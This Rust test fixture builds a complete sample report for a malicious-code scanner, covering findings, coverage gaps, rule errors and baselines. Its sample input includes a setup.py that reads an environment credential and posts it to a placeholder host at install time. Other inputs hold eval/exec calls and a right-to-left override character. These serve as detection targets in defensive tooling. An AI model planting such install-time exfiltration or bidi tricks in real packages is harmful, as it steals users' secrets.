//! A report in which everything that can be told is told.

use std::collections::BTreeMap;

use laocoon_report::{
    Baseline, Confidence, Coverage, Draft, Finding, Fix, Grade, IgnoredByTree, LineRange, Partly,
    RejectedRule, RelatedLocation, Report, RuleNotRun, RulesCoverage, Runs, Severity, Skipped,
    Times, TraceStep, Unit, UnitKind, Warning,
};

use crate::common::{Files, assemble, draft, finding};

const ARCHIVE: &str = "dist/x 1.0.tar.gz";
const MEMBER: Option<&str> = Some("x-1.0/setup.py");

pub(crate) fn files() -> Files {
    let mut files = Files::default();
    files.add(
        ARCHIVE,
        MEMBER,
        "import os, requests\n\nkey = os.environ['KEY']\ndata = {'k': key}\n\nrequests.post('http://x', data)\n",
    );
    files.add(
        "src/a.py",
        None,
        "# laocoon: allow execution/eval -- of a constant\neval('1')\neval(x) # nosemgrep\n\
         eval(y)  # laocoon: allow execution/eval\neval(z)\nold(1)\n",
    );
    files.add("/abs/b#.py", None, "名\u{202e}前 = exec(c)\n");
    files
}

/// A finding that says everything that findings can say.
pub(crate) fn full_finding(files: &Files) -> Finding {
    let place = |needle| files.place(ARCHIVE, MEMBER, needle);
    let step = |needle, note: &str| TraceStep {
        location: place(needle),
        note: note.to_owned(),
    };
    let location = place("requests.post('http://x', data)");
    Finding {
        severity: Severity::Critical,
        grade: Grade::Flow,
        message: "A credential from the environment is sent over the network".to_owned(),
        why: Some(
            "It runs when the package is installed,\nbefore any of its code is read.".to_owned(),
        ),
        remediation: Some("Remove the call".to_owned()),
        cwe: vec!["CWE-506: Embedded malicious code".to_owned()],
        references: vec!["https://example.org/a".to_owned()],
        related: vec![RelatedLocation {
            location: place("requests"),
            note: "imported here".to_owned(),
        }],
        trace: vec![
            step("os.environ['KEY']", "read here"),
            step("{'k': key}", "put into a dictionary"),
            step("requests.post('http://x', data)", "sent here"),
        ],
        fix: Some(Fix {
            replacement: String::new(),
            start: location.start,
            end: location.end,
        }),
        metavariables: BTreeMap::from([("$DATA".to_owned(), "data".to_owned())]),
        ..finding("exfiltration/environment-to-network", location)
    }
}

pub(crate) fn coverage() -> Coverage {
    Coverage {
        files: 12,
        analysed: 9,
        skipped: vec![
            Skipped {
                path: "big.js".to_owned(),
                member: None,
                reason: "too-large".to_owned(),
                detail: Some("12.5 MB".to_owned()),
            },
            Skipped {
                path: "dist/y.whl".to_owned(),
                member: Some("y/z.so".to_owned()),
                reason: "binary".to_owned(),
                detail: None,
            },
        ],
        partly: vec![
            Partly {
                path: ARCHIVE.to_owned(),
                member: MEMBER.map(str::to_owned),
                reason: "syntax-error".to_owned(),
                lines: vec![
                    LineRange { first: 3, last: 9 },
                    LineRange {
                        first: 12,
                        last: 12,
                    },
                ],
            },
            Partly {
                path: "c.py".to_owned(),
                member: None,
                reason: "timeout".to_owned(),
                lines: Vec::new(),
            },
        ],
        ignored_directories: vec!["node_modules".to_owned(), ".git".to_owned()],
        ignored_by_tree: vec![IgnoredByTree {
            ignore_file: "src/.gitignore".to_owned(),
            directories: 1,
            files: 1,
            names: vec!["src/out/".to_owned(), "src/secret.py".to_owned()],
            problem: Some("its third pattern is not valid".to_owned()),
        }],
        rules: RulesCoverage {
            loaded: 812,
            rejected: vec![RejectedRule {
                id: "my-rule".to_owned(),
                reason: "invalid regular expression".to_owned(),
                path: Some("rules.yaml".to_owned()),
                line: Some(7),
            }],
            not_run: vec![RuleNotRun {
                id: "other".to_owned(),
                reason: "language `ocaml` is not supported".to_owned(),
            }],
        },
        ..Coverage::default()
    }
}

fn sample_draft(files: &Files) -> Draft<'static> {
    let eval = |needle| finding("execution/eval", files.place("src/a.py", None, needle));
    let findings = vec![
        full_finding(files),
        Finding {
            unit: 1,
            ..eval("eval('1')")
        },
        Finding {
            unit: 1,
            ..eval("eval(x)")
        },
        Finding {
            unit: 1,
            confidence: Confidence::Medium,
            ..eval("eval(y)")
        },
        Finding {
            unit: 1,
            severity: Severity::Medium,
            ..eval("eval(z)")
        },
        Finding {
            unit: 1,
            ..finding("execution/old", files.place("src/a.py", None, "old(1)"))
        },
        Finding {
            unit: 1,
            severity: Severity::Low,
            confidence: Confidence::Low,
            grade: Grade::Observed,
            message: "Runs [c](http://x)".to_owned(),
            ..finding("users.own.rule", files.place("/abs/b#.py", None, "exec(c)"))
        },
    ];
    Draft {
        units: vec![
            Unit {
                ecosystem: Some("pypi-sdist".to_owned()),
                runs: vec![Runs {
                    member: "x/setup.py".to_owned(),
                    when: "install".to_owned(),
                    why: "`setup.py` runs when the package is built or installed".to_owned(),
                }],
                ..Unit::new(ARCHIVE, UnitKind::Package, false)
            },
            Unit::new("src", UnitKind::Tree, true),
        ],
        coverage: coverage(),
        warnings: vec![Warning {
            path: "dist/y.whl".to_owned(),
            member: Some("y/lies.txt".to_owned()),
            line: None,
            message: "its header lies about its size".to_owned(),
        }],
        times: Some(Times {
            total: 1.5,
            phases: BTreeMap::from([("parse".to_owned(), 0.5)]),
            rules: BTreeMap::from([("execution/eval".to_owned(), 0.25)]),
            files: BTreeMap::from([("src/a.py".to_owned(), 0.125)]),
        }),
        ..draft(findings)
    }
}

/// The sample, with its findings in another order for each `turn`.
pub(crate) fn sample_turned(turn: usize) -> Report {
    let files = files();
    let mut old = assemble(sample_draft(&files), &files).findings;
    old.retain(|finding| finding.rule == "execution/old");
    let mut out = Vec::new();
    Baseline::write(&mut out, &old).unwrap();
    let baseline = Baseline::read(&String::from_utf8(out).unwrap()).unwrap();

    let mut draft = Draft {
        baseline: Some(&baseline),
        ..sample_draft(&files)
    };
    let count = draft.findings.len();
    draft.findings.rotate_left(turn % count);
    draft.coverage.skipped.reverse();
    assemble(draft, &files)
}

pub(crate) fn sample() -> Report {
    sample_turned(0)
}
